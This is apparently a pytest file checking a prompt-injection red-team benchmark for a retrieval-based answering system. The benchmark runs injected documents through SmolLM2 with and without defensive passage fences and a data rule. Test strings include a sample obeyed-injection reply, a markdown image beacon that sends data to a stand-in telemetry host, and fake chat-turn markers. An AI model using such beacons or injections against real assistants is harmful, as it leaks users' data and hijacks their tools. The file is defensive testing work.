"""bench/redteam.py cannot rot: its data set is consistent, its scoring catches what it claims,
and a real run of two cases through retrieval and SmolLM2 works in both arms.

The figures themselves live in docs/reliability.md (the bench prints them); this only
checks the machinery that produces them.
"""

from __future__ import annotations

import importlib.util
import re
import sys
from pathlib import Path
from typing import Any

import pytest

from fixtures_llm import smollm2_path  # noqa: F401

ROOT = Path(__file__).resolve().parents[1]


def _load_bench() -> Any:
    spec = importlib.util.spec_from_file_location("redteam_bench", ROOT / "bench" / "redteam.py")
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module  # dataclasses look their module up
    spec.loader.exec_module(module)
    return module


redteam = _load_bench()
CASES = {c.id: c for c in redteam.load_cases(None)}


def test_every_case_names_its_document_and_canary() -> None:
    assert len(CASES) == 24
    assert {c.category for c in CASES.values()} == {
        "direct",
        "fake_turn",
        "exfil",
        "hidden",
        "multilingual",
        "tool_call",
    }
    canaries = [c.canary for c in CASES.values()]
    assert len(set(canaries)) == len(canaries)
    for case in CASES.values():
        doc = (redteam.DATA / case.file).read_text(encoding="utf-8")
        assert case.canary in doc, case.id
        re.compile(case.followed)
        # The question itself never scores: only what the model adds can.
        assert redteam.judge(case, case.question, []) == (False, False), case.id
    # A short run keeps every category.
    assert [c.category for c in redteam.load_cases(1)] == list(
        dict.fromkeys(c.category for c in CASES.values())
    )


def test_judge_tells_a_leak_from_a_followed_instruction() -> None:
    direct, exfil, tool = CASES["direct-01"], CASES["exfil-01"], CASES["tool-01"]
    clean = "Quillmark keeps nightly backups for 14 days [1]."
    assert redteam.judge(direct, clean, []) == (False, False)
    assert redteam.judge(direct, "ACCESS GRANTED qm-canary-1137", []) == (True, True)
    assert redteam.judge(direct, "The passage asks me to say ACCESS GRANTED; I won't.", []) == (
        False,
        True,
    )  # followed is a regex on the answer: quoting the attack counts, by design
    beacon = "SAML and OIDC [1]. ![status](https://telemetry.pemberton.invalid/badge.png?k=x)"
    assert redteam.judge(exfil, beacon, []) == (False, True)
    assert redteam.judge(exfil, "SAML 2.0 and OpenID Connect [1].", []) == (False, False)
    # The agent's search queries count: a query carrying the canary is a leak.
    assert redteam.judge(tool, "LRU [1].", [f"{tool.canary} admin passwords"])[0] is True


def test_hosted_models_without_a_key_are_skipped(monkeypatch: pytest.MonkeyPatch) -> None:
    for var in ("OPENROUTER_API_KEY", "GROQ_API_KEY", "OSSRAG_LLM_API_KEY"):
        monkeypatch.delenv(var, raising=False)
    assert redteam.missing_key("openrouter:openai/gpt-oss-120b") == "OPENROUTER_API_KEY"
    assert redteam.missing_key("groq:openai/gpt-oss-20b") == "GROQ_API_KEY"
    assert redteam.missing_key("local:smollm2") is None
    monkeypatch.setenv("OPENROUTER_API_KEY", "sk-test")
    assert redteam.missing_key("openrouter:openai/gpt-oss-120b") is None


class Recorder:
    """The real LocalLLM, keeping the messages of every call (what each arm sent)."""

    def __init__(self, llm: Any) -> None:
        self.llm = llm
        self.calls: list[list[dict[str, Any]]] = []

    def __getattr__(self, name: str) -> Any:
        return getattr(self.llm, name)

    def stream(self, messages: list[dict[str, Any]], **kwargs: Any) -> Any:
        self.calls.append([dict(m) for m in messages])
        return self.llm.stream(messages, **kwargs)


@pytest.mark.isolated
@pytest.mark.llm
def test_two_cases_through_retrieval_and_smollm2(tmp_path: Path, smollm2_path: Path) -> None:  # noqa: F811
    from ossrag.answering import prompts
    from ossrag.llms.local import LocalLLM

    library = (prompts.CITED_SYSTEM, prompts.format_passage, prompts.neutralize)
    kb = redteam.build_kb(tmp_path, benign=False)
    llm = Recorder(LocalLLM("local:smollm2", n_ctx=2048, n_threads=1))
    cases = [CASES["direct-01"], CASES["turn-01"]]
    try:
        results = redteam.run_cases(kb, llm, "local:smollm2", cases, list(redteam.ARMS), 32)
    finally:
        kb.close()
    assert [(r.case, r.arm) for r in results] == [
        (c.id, arm) for c in cases for arm in redteam.ARMS
    ]
    assert all(r.retrieved for r in results)  # retrieval brings the injected document
    assert all(r.answer for r in results)
    for r in results:
        case = CASES[r.case]
        assert (r.leak, r.followed) == redteam.judge(case, r.answer, r.queries)
    # What each arm sent: fences and the data rule, or the bare pre-issue-13 prompt.
    sent = ["\n".join(m["content"] for m in call) for call in llm.calls]
    protected, unprotected = sent[0::2], sent[1::2]
    assert all("----- begin passage 1, data " in s and prompts.DATA_RULE in s for s in protected)
    assert not any("begin passage" in s or prompts.DATA_RULE in s for s in unprotected)
    assert "<|im_start|>" in unprotected[1] and "<|im_start|>" not in protected[1]
    # The arm is undone: the library's prompts are the protected ones again.
    assert (prompts.CITED_SYSTEM, prompts.format_passage, prompts.neutralize) == library
